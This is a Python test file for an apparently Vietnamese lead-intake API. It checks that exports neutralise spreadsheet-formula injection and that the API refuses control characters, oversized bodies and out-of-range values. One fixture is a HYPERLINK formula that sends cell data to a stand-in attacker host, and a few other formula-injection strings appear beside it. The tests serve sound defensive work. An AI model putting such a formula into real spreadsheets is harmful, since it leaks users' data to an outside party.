"""Bad and hostile input: spreadsheet formulas and control characters in exports, size limits,
out-of-range numbers, dates and ids, and unknown query parameters. Each answers a clear 4xx (or is
neutralised), never a 500."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, func, select

from api.models import Lead
from api.roles import Role
from tests.harness import COMMUNE_A, Api, lead_body

FORMULA = '=HYPERLINK("http://attacker.example/?d="&B7,"Xem hồ sơ")'
MONTH = "2026-11"
LISTED_AT = datetime(2026, 11, 10, 3, 0, tzinfo=UTC)  # a fixed day of MONTH, Vietnam time


def _listed_lead(api: Api, officer: str, intake: str, key: str, name: str) -> str:
    with api.client(intake) as client:
        created = client.post(
            "/api/v1/leads", json=lead_body(key, contact={"name": name, "phone": "0912345678"})
        )
        assert created.status_code == 201, created.text
        lead_id = str(created.json()["id"])
    with api.client(officer) as client:
        for status in ("received", "listed"):
            assert client.post(f"/api/v1/leads/{lead_id}/status", json={"status": status}).status_code == 200
    with Session(api.engine) as session:  # on the list of a fixed month, whatever today is
        lead = session.get(Lead, lead_id)
        assert lead is not None
        lead.listed_at = LISTED_AT
        session.add(lead)
        session.commit()
    return lead_id


def _export(api: Api, token: str, fmt: str) -> bytes:
    with api.client(token) as client:
        response = client.get(
            "/api/v1/exports/monthly-list", params={"commune_code": COMMUNE_A, "month": MONTH, "format": fmt}
        )
    assert response.status_code == 200, response.text
    return response.content


def test_a_formula_in_a_name_comes_out_as_text_in_the_xlsx_and_neutralised_in_the_csv(api: Api) -> None:
    intake = api.account(Role.INTAKE)
    officer = api.account(Role.COMMUNE_POLICE, COMMUNE_A)
    _listed_lead(api, officer, intake, "f1", FORMULA)
    _listed_lead(api, officer, intake, "f2", "@SUM(1+1)*cmd")
    _listed_lead(api, officer, intake, "f3", "+84 Lê Văn C")
    _listed_lead(api, officer, intake, "f4", "-2+3 Trần D")

    sheet = load_workbook(io.BytesIO(_export(api, officer, "xlsx"))).active
    assert sheet is not None
    names = {sheet.cell(row=row, column=2) for row in range(11, 15)}  # under the header row (10)
    assert {c.value for c in names} == {FORMULA, "@SUM(1+1)*cmd", "+84 Lê Văn C", "-2+3 Trần D"}
    assert {c.data_type for c in names} == {"s"}  # text, never a formula Excel would run

    rows = list(csv.reader(io.StringIO(_export(api, officer, "csv").decode("utf-8-sig"))))
    csv_names = {row[1] for row in rows[1:] if len(row) > 1}  # the last row: "not confirmed by UBND"
    assert csv_names == {"'" + FORMULA, "'@SUM(1+1)*cmd", "'+84 Lê Văn C", "'-2+3 Trần D"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("name", ["Lê\x1b[31mVăn\x07 B", "Nguyễn\x00 Văn A", "A\x7fB"])
def test_control_characters_in_a_name_are_refused_at_intake(api: Api, name: str) -> None:
    with api.client(api.account(Role.INTAKE)) as client:
        response = client.post("/api/v1/leads", json=lead_body(contact={"name": name, "phone": "0912345678"}))
    assert response.status_code == 422, response.text
    assert "contact.name" in response.json()["error"]["message"]


def test_old_rows_with_control_characters_still_export(api: Api) -> None:
    intake = api.account(Role.INTAKE)
    officer = api.account(Role.COMMUNE_POLICE, COMMUNE_A)
    lead_id = _listed_lead(api, officer, intake, "old", "Lê Văn B")
    # Stored before intake refused them (NUL only where the database can hold it).
    dirty = "Lê\x1b[31m Văn\x07 B" + ("\x00" if api.engine.dialect.name == "sqlite" else "")
    with Session(api.engine) as session:
        lead = session.get(Lead, lead_id)
        assert lead is not None
        lead.contact_name = dirty
        lead.contact_extra = {"address": "=1+1\x0c hẻm 5"}
        session.add(lead)
        session.commit()
    sheet = load_workbook(io.BytesIO(_export(api, officer, "xlsx"))).active
    assert sheet is not None
    assert sheet.cell(row=11, column=2).value == "Lê[31m Văn B"
    assert str(sheet.cell(row=11, column=5).value).startswith("=1+1 hẻm 5")
    assert sheet.cell(row=11, column=5).data_type == "s"
    rows = list(csv.reader(io.StringIO(_export(api, officer, "csv").decode("utf-8-sig"))))
    assert rows[1][1] == "Lê[31m Văn B"
    assert rows[1][4].startswith("'=1+1 hẻm 5")


def test_bodies_and_fields_have_size_limits(api: Api) -> None:
    with api.client(api.account(Role.INTAKE)) as client:
        huge = lead_body("big")
        huge["answers"] = {**huge["answers"], "note": "x" * 10_000_000}
        assert client.post("/api/v1/leads", json=huge).status_code == 413

        # Streamed without a length: refused as it arrives.
        def chunks() -> object:
            for _ in range(100):
                yield b"x" * 10_000

        streamed = client.post(
            "/api/v1/leads", content=chunks(), headers={"Content-Type": "application/json"}
        )  # type: ignore[arg-type]
        assert streamed.status_code == 413

        long_answer = lead_body("long")
        long_answer["answers"] = {**long_answer["answers"], "note": "x" * 5_000}
        response = client.post("/api/v1/leads", json=long_answer)
        assert response.status_code == 422 and "answers" in response.json()["error"]["message"]

        many = lead_body("many")
        many["answers"] = {**many["answers"], **{f"k{n}": n for n in range(100)}}
        assert client.post("/api/v1/leads", json=many).status_code == 422

        nested = lead_body("nested")
        nested["answers"] = {**nested["answers"], "purpose": {"a": ["x" * 100] * 100}}
        assert client.post("/api/v1/leads", json=nested).status_code == 422
    with Session(api.engine) as session:
        assert session.exec(select(func.count()).select_from(Lead)).one() == 0


@pytest.mark.parametrize("month", ["0000-01", "9999-12", "1999-12", "2100-01"])
def test_months_outside_the_service_years_are_422(api: Api, month: str) -> None:
    with api.client(api.account(Role.COMMUNE_POLICE, COMMUNE_A)) as client:
        response = client.get(
            "/api/v1/exports/monthly-list", params={"commune_code": COMMUNE_A, "month": month}
        )
    assert response.status_code == 422, response.text


HUGE_ID = 2**63


@pytest.mark.parametrize(
    ("method", "path", "role"),
    [
        ("GET", f"/api/v1/admin/audit?account_id={HUGE_ID}", Role.ADMIN),
        ("POST", f"/api/v1/admin/deliveries/{HUGE_ID}/retry", Role.ADMIN),
        ("POST", f"/api/v1/accounts/{HUGE_ID}/revoke", Role.ADMIN),
        ("POST", f"/api/v1/accounts/{HUGE_ID}/link-code", Role.ADMIN),
        ("DELETE", f"/api/v1/webhooks/{HUGE_ID}", Role.AGENCY),
        ("POST", f"/api/v1/obligations/monthly_list/2026-11/done?account_id={HUGE_ID}", Role.ADMIN),
        ("POST", f"/api/v1/admin/deliveries/{10**30}/retry", Role.ADMIN),
    ],
)
def test_ids_beyond_64_bits_are_refused_not_500(api: Api, method: str, path: str, role: Role) -> None:
    with api.client(api.account(role)) as client:
        response = client.request(method, path)
    assert response.status_code in (404, 422), response.text


@pytest.mark.parametrize("amount", [1e30, 10**20, "1" + "0" * 40])
def test_absurd_amounts_are_422(api: Api, amount: object) -> None:
    body = lead_body("amt")
    body["answers"] = {**body["answers"], "amount": amount}
    with api.client(api.account(Role.INTAKE)) as client:
        response = client.post("/api/v1/leads", json=body)
    assert response.status_code == 422, response.text
    assert "amount" in response.json()["error"]["message"]


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1900-01-01"])
def test_follow_up_days_out_of_range_are_422(api: Api, day: str) -> None:
    body = {"channel": "telegram", "channel_user": "1001", "kind": "after_release", "remind_on": day}
    with api.client(api.account(Role.INTAKE)) as client:
        response = client.post("/api/v1/followups", json=body)
    assert response.status_code == 422, response.text
    assert "remind_on" in response.json()["error"]["message"]


@pytest.mark.parametrize("params", [{"q": "Nguyễn"}, {"phone": "0912345678"}, {"status": "new", "nme": "A"}])
def test_unknown_query_parameters_are_refused_naming_them(api: Api, params: dict[str, str]) -> None:
    intake = api.account(Role.INTAKE)
    with api.client(intake) as client:
        assert client.post("/api/v1/leads", json=lead_body()).status_code == 201
        response = client.get("/api/v1/leads", params=params)
        assert response.status_code == 422, response.text
        unknown = [k for k in params if k not in ("status",)]
        for name in unknown:
            assert f"query.{name}" in response.json()["error"]["message"]
        assert client.get("/api/v1/leads", params={"status": "new"}).status_code == 200


@pytest.mark.parametrize("version", [2**31, 2**63, 10**30])
def test_conversation_versions_beyond_the_column_are_422(api: Api, version: int) -> None:
    with api.client(api.account(Role.INTAKE)) as client:
        response = client.put("/api/v1/conversations/telegram/1001", json={"state": {}, "version": version})
    assert response.status_code == 422, response.text


def test_lone_surrogates_in_text_are_refused_not_500(api: Api) -> None:
    raw = lead_body("sur", contact={"name": "A", "phone": "0912345678"})
    text = json.dumps(raw).replace('"name": "A"', '"name": "A\\ud806B"')
    with api.client(api.account(Role.INTAKE)) as client:
        response = client.post("/api/v1/leads", content=text, headers={"Content-Type": "application/json"})
    assert response.status_code == 422, response.text
